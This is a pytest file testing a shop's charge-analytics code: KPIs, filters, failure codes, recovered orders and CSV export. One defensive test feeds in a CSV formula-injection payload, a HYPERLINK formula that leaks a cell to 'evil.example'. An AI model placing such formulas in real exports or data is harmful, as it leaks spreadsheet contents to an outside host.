"""shop.analytics on a small fixture whose numbers were worked out by hand (see FIXTURE_* below)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from shop import analytics, sync_rows
from shop.db import get_engine
from tests.support_data import FIXTURE, charge_object, store_charges, ts

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


CURRENT = analytics.period_bounds(date(2026, 11, 14), date(2026, 11, 20))


@pytest.fixture
def frame(tmp_path: Path) -> pd.DataFrame:
    engine = get_engine(f"sqlite:///{tmp_path / 'shop.db'}")
    store_charges(engine, FIXTURE)
    return analytics.load_charges(engine)


def test_load_charges_reads_every_row_newest_first_with_derived_columns(frame):
    assert len(frame) == len(FIXTURE)
    assert list(frame["id"][:2]) == ["ch_h", "ch_a"]
    by_id = frame.set_index("id")
    assert by_id.loc["ch_a", "book"] == "The Art of Doing Science and Engineering"
    assert by_id.loc["ch_d", "code"] == "insufficient_funds"
    assert by_id.loc["ch_p2", "code"] == "expired_card"  # no decline code: the failure code
    assert pd.isna(by_id.loc["ch_h", "order_id"])


def test_display_status_per_charge(frame):
    status = frame.set_index("id")["display_status"].to_dict()
    assert status["ch_a"] == "succeeded"
    assert status["ch_b"] == "partially refunded"
    assert status["ch_c"] == "refunded"
    assert status["ch_d"] == "failed"
    assert status["ch_g"] == "uncaptured"
    assert status["ch_h"] == "succeeded"


def test_kpis_equal_the_hand_computed_values(frame):
    kpis = analytics.kpis(frame, *CURRENT)
    # gross: a 2300 + b 4600 + c 2000 + e 2300 + h 1000 (g is not captured); refunded: b 500 + c 2000
    assert kpis.current == analytics.Totals(
        gross=12200,
        refunded=2500,
        net=9700,
        succeeded=6,
        failed=2,
        success_rate=0.75,
        average_order_value=2440,
        fees_unknown=5,  # the fixture's charges carry no balance transaction: no fee known for the 5 captured
    )
    assert kpis.previous == analytics.Totals(
        gross=2300,
        refunded=0,
        net=2300,
        succeeded=1,
        failed=1,
        success_rate=0.5,
        average_order_value=2300,
        fees_unknown=1,
    )
    assert analytics.change(kpis.current.gross, kpis.previous.gross) == pytest.approx(12200 / 2300 - 1)
    assert analytics.change(5, 0) is None


def test_each_filter_narrows_the_rows(frame):
    start, end = CURRENT
    in_period = analytics.filter_charges(frame, analytics.ChargeFilter(start=start, end=end))
    assert set(in_period["id"]) == {"ch_a", "ch_b", "ch_c", "ch_d", "ch_e", "ch_f", "ch_g", "ch_h"}

    def ids(**kwargs) -> set[str]:
        return set(analytics.filter_charges(frame, analytics.ChargeFilter(**kwargs))["id"])

    assert ids(statuses=("failed",)) == {"ch_d", "ch_f", "ch_p2"}
    assert ids(statuses=("refunded", "partially refunded")) == {"ch_b", "ch_c"}
    assert ids(statuses=("uncaptured",)) == {"ch_g"}
    assert ids(email="DEE@") == {"ch_d", "ch_e"}
    assert ids(email="bob m") == {"ch_b"}  # the customer's name matches too
    assert ids(book_ids=("making-of-prince-of-persia",)) == {"ch_b"}
    assert ids(min_amount=2500, max_amount=3000) == {"ch_f", "ch_g"}
    assert ids(start=start, end=end, statuses=("succeeded",), min_amount=2000) == {"ch_a", "ch_e"}


def test_date_presets_end_today_and_period_bounds_include_the_last_day():
    presets = analytics.date_presets(NOW)
    assert presets["Today"] == (date(2026, 11, 20), date(2026, 11, 20))
    assert presets["Last 7 days"] == (date(2026, 11, 14), date(2026, 11, 20))
    assert presets["Month to date"] == (date(2026, 11, 1), date(2026, 11, 20))
    start, end = analytics.period_bounds(date(2026, 11, 14), date(2026, 11, 20))
    assert end - start == timedelta(days=7)
    assert end == datetime(2026, 11, 21, tzinfo=UTC)


def test_volume_series_by_day_and_by_hour_for_short_ranges(frame):
    start, end = CURRENT
    daily = analytics.volume_series(frame[frame["created_at"] >= pd.Timestamp(start)], start, end)
    nov16 = daily[daily["bucket"] == pd.Timestamp("2026-11-16", tz="UTC")].set_index("display_status")
    assert nov16.loc["failed", "amount"] == 2300
    assert nov16.loc["succeeded", "amount"] == 2300
    assert nov16.loc["succeeded", "amount_major"] == 23.0
    day_start, day_end = analytics.period_bounds(date(2026, 11, 16), date(2026, 11, 16))
    assert analytics.bucket_size(day_start, day_end) == "hour"
    one_day = frame[frame["created_at"].between(pd.Timestamp(day_start), pd.Timestamp(day_end))]
    hourly = analytics.volume_series(one_day, day_start, day_end)
    assert list(hourly["bucket"].unique()) == [pd.Timestamp("2026-11-16 09:00", tz="UTC")]


def test_failures_by_code_with_advice_and_failure_rate(frame):
    codes = analytics.failures_by_code(frame)
    assert list(codes["code"]) == ["expired_card", "generic_decline", "insufficient_funds"]
    assert list(codes["count"]) == [1, 1, 1]
    funds = codes.set_index("code").loc["insufficient_funds"]
    assert "another card" in funds["next_step"]
    assert funds["doc_url"].endswith("#insufficient_funds")
    rate = analytics.failure_rate_series(frame, *CURRENT).set_index("bucket")
    nov16 = rate.loc[pd.Timestamp("2026-11-16", tz="UTC")]
    assert (nov16["attempts"], nov16["failed"], nov16["rate"]) == (2, 1, 0.5)


def test_recovered_orders_count_only_a_later_success_with_another_card(frame):
    same_card_retry = charge_object(
        "ch_f2", ts(15, 13), 3000, email="eve@example.com", last4="0002", order_id="SP-FFFF0001"
    )
    with_retry = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(same_card_retry)]))])
    recovered = analytics.recovered_orders(with_retry)
    assert list(recovered["order_id"]) == ["SP-DDDD0001"]
    row = recovered.iloc[0]
    assert row["time_to_recover"] == timedelta(minutes=5)
    assert (row["failed_card"], row["succeeded_card"], row["amount"]) == ("visa 9995", "mastercard 4444", 2300)
    summary = analytics.recovery_summary(with_retry)
    assert (summary.failed_orders, summary.recovered, summary.recovered_amount) == (3, 1, 2300)


@pytest.mark.parametrize("kept", ["all", "failed only", "none"])
def test_no_recovered_order_still_gives_time_columns_a_chart_can_measure(frame, kept):
    # A range with failures but no recovery (or no charges at all) gave object columns: the notebook's
    # `time_to_recover.dt.total_seconds()` raised on such a range.
    rows = {"all": frame[frame["order_id"] != "SP-DDDD0001"], "failed only": frame[frame["status"] == "failed"]}
    recovered = analytics.recovered_orders(rows.get(kept, frame.iloc[0:0]))
    assert recovered.empty
    assert list(recovered["time_to_recover"].dt.total_seconds()) == []
    assert pd.api.types.is_datetime64_any_dtype(recovered["succeeded_at"])
    assert pd.api.types.is_integer_dtype(recovered["amount"])


@pytest.mark.parametrize(
    ("waited", "shown"),
    [
        (timedelta(minutes=5), "5 minutes"),
        (timedelta(hours=34, minutes=47), "1 day and 11 hours"),
        (timedelta(days=3, hours=2, minutes=10), "3 days and 2 hours"),
    ],
)
def test_the_time_to_recover_reads_in_minutes_hours_or_days(frame, waited, shown):
    recovered = analytics.recovered_orders(frame).assign(time_to_recover=waited)
    assert list(analytics.recovered_table(recovered)["Time to recover"]) == [shown]


def test_an_authorization_never_captured_does_not_make_a_repeat_customer(frame):
    # gus@example.com has one uncaptured charge (ch_g) in the fixture; one paid order more is still one paid order.
    paid = charge_object("ch_g2", ts(18, 15), 2500, email="gus@example.com", order_id="SP-GGGG0002")
    with_paid = pd.concat([frame, analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(paid)]))])
    assert "gus@example.com" not in set(analytics.repeat_customers(with_paid)["receipt_email"])


def test_csv_has_exactly_the_filtered_rows_with_decimal_amounts(frame):
    rows = analytics.filter_charges(frame, analytics.ChargeFilter(email="dee@"))
    parsed = list(csv.DictReader(io.StringIO(analytics.charges_csv(rows).decode())))
    assert [row["id"] for row in parsed] == list(rows["id"])
    assert parsed[0]["amount"] == "23.00"
    assert parsed[-1]["created_utc"] == "2026-11-16T09:00:00Z"


def test_charges_csv_writes_a_customer_formula_as_text(frame):
    hostile = charge_object(
        "ch_x1", ts(15, 14), 2300, email="=1+1@example.com", name='=HYPERLINK("http://evil.example/?"&B2,"Open")'
    )
    rows = analytics.prepare_charges(pd.DataFrame([sync_rows.charge_row(hostile)]))
    [row] = csv.DictReader(io.StringIO(analytics.charges_csv(rows).decode()))
    assert row["customer_name"] == '\'=HYPERLINK("http://evil.example/?"&B2,"Open")'
    assert row["receipt_email"] == "'=1+1@example.com"
    assert row["amount"] == "23.00"


def test_find_charges_by_id_order_number_or_email_in_the_store(tmp_path: Path):
    engine = get_engine(f"sqlite:///{tmp_path / 'shop.db'}")
    store_charges(engine, FIXTURE)

    def found(query: str, **limit: int) -> list[str]:
        return list(analytics.find_charges(query, engine=engine, **limit)["id"])

    assert found("ch_c") == ["ch_c"]
    assert found("sp-dddd0001") == ["ch_e", "ch_d"]  # the order's charges, newest first
    assert found("ADA@") == ["ch_a", "ch_p1"]  # part of the email, any case
    assert found("ch_old") == ["ch_old"]  # older than any period: the search reads the whole copy
    assert found("@example.com", limit=2) == ["ch_a", "ch_b"]  # the newest of many
    assert found("ad_@") == [] and found("%") == []  # typed text, not LIKE wildcards
    assert found("  ") == []
    shown = analytics.find_charges("ch_b", engine=engine).iloc[0]
    assert (shown["display_status"], shown["amount_refunded"], shown["card_brand"]) == (
        "partially refunded",
        500,
        "mastercard",
    )


def test_count_charges_by_status_and_period(tmp_path: Path):
    engine = get_engine(f"sqlite:///{tmp_path / 'shop.db'}")
    assert analytics.count_charges(engine) == 0
    store_charges(engine, FIXTURE)
    assert analytics.count_charges(engine) == len(FIXTURE)
    assert analytics.count_charges(engine, status="failed") == 3
    assert analytics.count_charges(engine, status="succeeded", start=CURRENT[0], end=CURRENT[1]) == 6
    # [start, end): ch_a, created at the first second of `end`, is not in the period; a second later it is.
    assert analytics.count_charges(engine, start=CURRENT[0], end=datetime.fromtimestamp(ts(19, 10), UTC)) == 6
    assert analytics.count_charges(engine, start=CURRENT[0], end=datetime.fromtimestamp(ts(19, 10) + 1, UTC)) == 7


def test_kpis_of_the_two_periods_alone_equal_those_of_every_charge_given_the_first_charge(tmp_path: Path):
    engine = get_engine(f"sqlite:///{tmp_path / 'shop.db'}")
    store_charges(engine, FIXTURE)
    start, end = CURRENT
    every = analytics.kpis(analytics.load_charges(engine), start, end, now=NOW + timedelta(days=1))
    window = analytics.load_charges(engine, start=start - (end - start), end=end)
    assert "ch_old" not in set(window["id"])
    alone = analytics.kpis(window, start, end, now=NOW + timedelta(days=1))
    assert alone.comparison.kind == "partial"  # the window alone would seem to start inside the previous period
    given = analytics.kpis(window, start, end, now=NOW + timedelta(days=1), earliest=analytics.first_created(engine))
    assert given == every and every.comparison.kind == "full"


def test_totals_by_day_add_up_to_the_period_and_match_hand_computed_days(frame):
    start, end = CURRENT
    in_period = analytics.filter_charges(frame, analytics.ChargeFilter(start=start, end=end))
    daily = analytics.totals_by(in_period, in_period["created_at"].dt.floor("D").rename("day"))
    period = analytics.totals(in_period)
    assert (daily["gross"].sum(), daily["refunded"].sum(), daily["net"].sum()) == (
        period.gross,
        period.refunded,
        period.net,
    )
    by_day = {stamp.day: row for stamp, row in daily.iterrows()}
    # 11-16: ch_d failed 2300 then ch_e paid 2300 -> gross 2300, one of two succeeded
    assert (by_day[16]["gross"], by_day[16]["succeeded"], by_day[16]["failed"]) == (2300, 1, 1)
    assert by_day[16]["success_rate"] == 0.5
    # 11-18: ch_b 4600 with 500 refunded
    assert (by_day[18]["gross"], by_day[18]["refunded"], by_day[18]["net"]) == (4600, 500, 4100)
    # 11-14: only the uncaptured ch_g -> succeeded but no gross and no average order value
    assert (by_day[14]["gross"], by_day[14]["succeeded"]) == (0, 1)
    assert pd.isna(by_day[14]["average_order_value"])


def test_weeks_start_on_monday():
    times = pd.Series(pd.to_datetime(["2026-11-16 09:00", "2026-11-22 23:59", "2026-11-23 00:00"], utc=True))
    weeks = analytics.week_of(times)
    assert [w.strftime("%a %Y-%m-%d") for w in weeks] == ["Mon 2026-11-16", "Mon 2026-11-16", "Mon 2026-11-23"]


def test_repeat_customers_have_two_successful_charges(frame):
    repeat = analytics.repeat_customers(frame)
    # ada paid twice (ch_a, ch_p1); dee failed once and paid once, so she is not a repeat customer
    assert repeat.to_dict("records") == [{"receipt_email": "ada@example.com", "orders": 2, "gross": 4600}]


def test_notebook_range_defaults_to_the_last_30_days_and_answers_a_bad_date_with_a_sentence() -> None:
    now = datetime(2026, 3, 10, 12, tzinfo=UTC)
    assert analytics.notebook_range(None, None, now) == (date(2026, 2, 9), date(2026, 3, 10))
    assert analytics.notebook_range("", "2026-01-31", now) == (date(2026, 1, 2), date(2026, 1, 31))
    assert analytics.notebook_range("2026-01-01", "2026-01-01", now) == (date(2026, 1, 1), date(2026, 1, 1))
    with pytest.raises(analytics.ParameterError, match="end_date = '31/01/2026' is not a date"):
        analytics.notebook_range(None, "31/01/2026", now)
    with pytest.raises(analytics.ParameterError, match="is after end_date"):
        analytics.notebook_range("2026-02-01", "2026-01-31", now)


# ---------------------------------------------------------------------------------- what a comparison covers


def captured_gross(frame: pd.DataFrame, since: datetime, until: datetime) -> int:
    """Captured amount of the succeeded charges created in [since, until), summed here from the rows."""
    total = 0
    for row in frame.itertuples():
        created = row.created_at.to_pydatetime()
        if since <= created < until and row.status == "succeeded" and row.captured:
            total += int(row.amount_captured)
    return total


def test_a_period_before_the_first_charge_has_nothing_to_compare_with(frame):
    first = frame["created_at"].min().to_pydatetime()
    start, end = analytics.period_bounds(first.date(), NOW.date())
    kpis = analytics.kpis(frame, start, end, now=NOW + timedelta(days=1))
    assert kpis.comparison.kind == "none"
    assert kpis.comparison.label == "No earlier charges to compare with."


def test_a_previous_period_that_starts_before_the_first_charge_says_so(frame):
    first = frame["created_at"].min().to_pydatetime()
    start, end = analytics.period_bounds(first.date() + timedelta(days=1), NOW.date())
    kpis = analytics.kpis(frame, start, end, now=NOW + timedelta(days=1))
    assert kpis.comparison.kind == "partial"
    assert kpis.comparison.label.endswith(f"(charges only since {first:%d %b %Y})")


def test_today_is_compared_with_yesterday_until_the_same_time(frame):
    now = NOW.replace(hour=9)  # yesterday's sale was at 10:00
    start, end = analytics.period_bounds(now.date(), now.date())
    kpis = analytics.kpis(frame, start, end, now=now)
    yesterday = start - timedelta(days=1)
    assert kpis.comparison.label == "vs yesterday until the same time"
    assert kpis.previous.gross == captured_gross(frame, yesterday, yesterday + (now - start))
    assert kpis.previous.gross != captured_gross(frame, yesterday, start)
